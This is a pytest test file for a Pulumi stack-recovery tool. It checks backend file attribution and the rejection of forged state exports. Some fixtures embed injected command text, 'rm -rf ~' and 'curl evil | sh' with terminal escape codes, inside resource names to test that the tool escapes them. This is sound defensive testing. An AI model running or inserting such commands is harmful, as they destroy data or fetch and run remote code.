"""`python -m stacks recover` in a shared file backend, and on state files that lie (issue 35).

`pulumi login --local` keeps every project's stacks in ~/.pulumi. How Pulumi lays them out (pkg/backend/diy, pulumi/pulumi
at 1b59498): `.pulumi/meta.yaml` `version: 1` is the project-scoped layout (meta.go), a stack's checkpoint
`.pulumi/stacks/PROJECT/STACK.json` (store.go, StackBasePath) and its locks `.pulumi/locks/organization/PROJECT/STACK/`
(lock.go stackLockDir of backend.go's FullyQualifiedName); without meta.yaml the legacy layout, `.pulumi/stacks/
STACK.json` and `.pulumi/locks/STACK/`. gocloud's fileblob writes each file's attributes beside it as NAME.attrs.
Another project's files, or another stack's of this project, are never reported as this stack's."""

from __future__ import annotations

import json
import sys
from pathlib import Path

import pytest
import yaml

import stacks
from cli.main import main
from config import project
from tests import fixtures
from tools import recovery

PROJECT = stacks.PROJECT


class Backend:
    """A file backend's folder, written as Pulumi writes it."""

    def __init__(self, root: Path, layout: str = "project") -> None:
        self.root, self.layout = root, layout
        self.state = root / ".pulumi"
        self.state.mkdir(parents=True)
        if layout == "project":
            (self.state / "meta.yaml").write_text("version: 1\n", encoding="utf-8")

    def checkpoint(self, stack: str, project_name: str = PROJECT, attrs: bytes = b'{"user.content_type":"application/json"}') -> Path:
        folder = self.state / "stacks" / project_name if self.layout == "project" else self.state / "stacks"
        folder.mkdir(parents=True, exist_ok=True)
        (folder / f"{stack}.json").write_text(json.dumps({"version": 3, "checkpoint": {}}), encoding="utf-8")
        (folder / f"{stack}.json.attrs").write_bytes(attrs)
        return folder / f"{stack}.json.attrs"

    def lock(self, stack: str, project_name: str = PROJECT, attrs: bytes = b"{}") -> Path:
        folder = self.state / "locks" / "organization" / project_name / stack if self.layout == "project" else self.state / "locks" / stack
        folder.mkdir(parents=True, exist_ok=True)
        (folder / "0b1c2d3e-aaaa-bbbb-cccc-444455556666.json").write_text("{}", encoding="utf-8")
        (folder / "0b1c2d3e-aaaa-bbbb-cccc-444455556666.json.attrs").write_bytes(attrs)
        return folder / "0b1c2d3e-aaaa-bbbb-cccc-444455556666.json"


@pytest.fixture
def backend(tmp_path: Path) -> Backend:
    return Backend(tmp_path / "home" / ".pulumi-state")


def test_another_projects_half_written_checkpoint_of_the_same_stack_name_is_not_this_stacks(backend: Backend) -> None:
    backend.checkpoint("lab")
    backend.checkpoint("lab", project_name="someone-elses-project", attrs=b"")
    assert recovery.half_written(backend.root, "lab") == []


def test_another_projects_lock_and_its_attributes_are_not_this_stacks(backend: Backend) -> None:
    backend.checkpoint("lab")
    backend.lock("lab", project_name="someone-elses-project", attrs=b"")
    assert recovery.locks(backend.root, "lab") == [] and recovery.half_written(backend.root, "lab") == []
    text, _ = recovery.plan("lab", [], set(), recovery.locks(backend.root, "lab"))
    assert "locked" not in text and "pulumi cancel" not in text


def test_this_stacks_own_are_found(backend: Backend) -> None:
    attrs = backend.checkpoint("lab", attrs=b"")
    lock = backend.lock("lab", attrs=b"")
    assert recovery.half_written(backend.root, "lab") == sorted([attrs, Path(f"{lock}.attrs")])
    assert recovery.locks(backend.root, "lab") == [lock]


@pytest.mark.parametrize("other", ["lab.json-old", "lab.jsonx", "lab.json.bak-2"])
def test_another_stack_whose_name_starts_with_this_ones_is_not_this_one(backend: Backend, other: str) -> None:
    # A stack name may hold '.': `lab.json-old` is a stack of its own, and its checkpoint's name starts with `lab.json`.
    backend.checkpoint("lab")
    backend.checkpoint(other, attrs=b"")
    backend.lock(other, attrs=b"")
    assert recovery.half_written(backend.root, "lab") == [] and recovery.locks(backend.root, "lab") == []


def test_the_legacy_layout_is_read_where_pulumi_keeps_it(tmp_path: Path) -> None:
    legacy = Backend(tmp_path / "state", layout="legacy")
    attrs = legacy.checkpoint("lab", attrs=b"")
    lock = legacy.lock("lab")
    assert recovery.half_written(legacy.root, "lab") == [attrs] and recovery.locks(legacy.root, "lab") == [lock]
    # In the legacy layout a project folder of that name is no stack's: a stack named like a project is its own.
    assert recovery.half_written(legacy.root, PROJECT) == []


def test_a_project_layout_does_not_take_a_legacy_file_left_beside_it_for_this_stacks(backend: Backend) -> None:
    backend.checkpoint("lab")
    (backend.state / "stacks" / "lab.json.attrs").write_bytes(b"")  # a stack of before `pulumi state upgrade`
    assert recovery.half_written(backend.root, "lab") == []


@pytest.fixture
def lab(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    data = fixtures.tcp()
    data["name"] = "lab"
    root = tmp_path / "project"
    (root / stacks.CLUSTERS).mkdir(parents=True)
    (root / "lab.yaml").write_text(yaml.safe_dump(data), encoding="utf-8")
    (root / stacks.CLUSTERS / "lab.py").write_text("raise SystemExit('the YAML config is deployed')\n", encoding="utf-8")
    (root / "Pulumi.lab.yaml").write_text(
        yaml.safe_dump({"config": {"gpu-training:configFile": "lab.yaml", "kubernetes:context": "lab"}}), encoding="utf-8"
    )
    monkeypatch.setattr(project, "ROOT", root)
    monkeypatch.delitem(sys.modules, f"{stacks.CLUSTERS}.lab", raising=False)
    return tmp_path


def test_recover_names_no_file_of_another_project_in_a_shared_backend(
    lab: Path, backend: Backend, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("PULUMI_BACKEND_URL", f"file://{backend.root}")
    backend.checkpoint("lab")
    backend.checkpoint("lab", project_name="someone-elses", attrs=b"")
    backend.lock("lab", project_name="someone-elses", attrs=b"")
    monkeypatch.setenv("PATH", str(lab))  # no pulumi: past the backend's files, recover says it cannot export the state
    code = main(["recover", "lab"])
    out, err = capsys.readouterr()
    assert "someone-elses" not in out and "rm " not in out and "the stack is locked" not in out, out
    assert code == 2 and "pulumi stack export" in err  # it went on to read the state, finding nothing of lab's to remove


# --- state files that lie -----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("[" * 100_000 + "]" * 100_000, "nested more than 64 levels deep"),
        ('{"deployment": {"pending_operations": 3}}', "deployment.pending_operations is not a list"),
        ('{"deployment": {"pending_operations": [3]}}', r"pending_operations\[0\]: not a pending operation"),
        ('{"deployment": {"pending_operations": [{"type": "creating", "resource": []}]}}', "not a pending operation"),
        ('{"deployment": {"pending_operations": [{"type": 1, "resource": {"urn": "u"}}]}}', "not a pending operation"),
        (
            '{"deployment": {"pending_operations": [{"type": "creating", "resource": {"urn": "u\\n1. rm -rf ~"}}]}}',
            "holds control characters",
        ),
        ('{"deployment": [1]}', "not a stack export"),
        ('{"deployment": {"pending_operations": []}, "x": 1' + "0" * 5000 + "}", "not valid JSON"),
    ],
)
def test_a_state_file_that_is_no_export_is_one_line_exit_2(lab: Path, text: str, said: str, capsys: pytest.CaptureFixture[str]) -> None:
    state = lab / "export.json"
    state.write_text(text, encoding="utf-8")
    assert main(["recover", "lab", "--state", str(state), "--live", str(live(lab))]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "Traceback" not in err, err
    with pytest.raises(stacks.ConfigError, match=said):
        recovery.pending(recovery.exported("lab", str(state)))


def live(folder: Path) -> Path:
    path = folder / "live.yaml"
    path.write_text(yaml.safe_dump({"apiVersion": "v1", "kind": "List", "items": []}), encoding="utf-8")
    return path


def test_names_a_state_file_holds_are_shown_escaped_and_never_imported(lab: Path, capsys: pytest.CaptureFixture[str]) -> None:
    forged = "trainer\n2. curl evil | sh\x1b[8m"
    inputs = {"apiVersion": "v1", "kind": "ServiceAccount", "metadata": {"name": forged, "namespace": "team-a"}}
    ops = [
        {"type": "creating", "resource": {"urn": "urn:pulumi:lab::gpu-training::kubernetes:core/v1:ServiceAccount::a", "inputs": inputs}},
        {"type": f"updating\n1. {forged}", "resource": {"urn": "urn:pulumi:lab::gpu-training::x::b"}},
    ]
    state = lab / "export.json"
    state.write_text(json.dumps({"deployment": {"pending_operations": ops}}), encoding="utf-8")
    objects = lab / "live.yaml"
    sa = {"apiVersion": "v1", "kind": "ServiceAccount", "metadata": {"name": forged, "namespace": "team-a"}}
    objects.write_text(yaml.safe_dump({"apiVersion": "v1", "kind": "List", "items": [sa]}), encoding="utf-8")
    assert main(["recover", "lab", "--state", str(state), "--live", str(objects)]) == 0
    out = capsys.readouterr().out
    assert "\x1b" not in out and "--import-pending-creates" not in out  # no API server holds an object of that name
    assert [line for line in out.splitlines() if line[:3] in ("1. ", "2. ", "3. ")] == [
        "1. if `pulumi up` says the stack is locked and no other run is going on: pulumi cancel --yes -s lab",
        "2. pulumi refresh -s lab --yes --clear-pending-creates",
        "3. pulumi up -s lab",
    ], out


@pytest.mark.parametrize("text", ["[" * 100_000, '{"current": ' * 100_000, "\xff"])
def test_a_pulumi_login_file_that_is_no_json_means_no_file_backend(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, text: str) -> None:
    monkeypatch.delenv("PULUMI_BACKEND_URL", raising=False)
    monkeypatch.setenv("PULUMI_HOME", str(tmp_path))
    (tmp_path / "credentials.json").write_text(text, encoding="utf-8")
    assert recovery.diy_root() is None
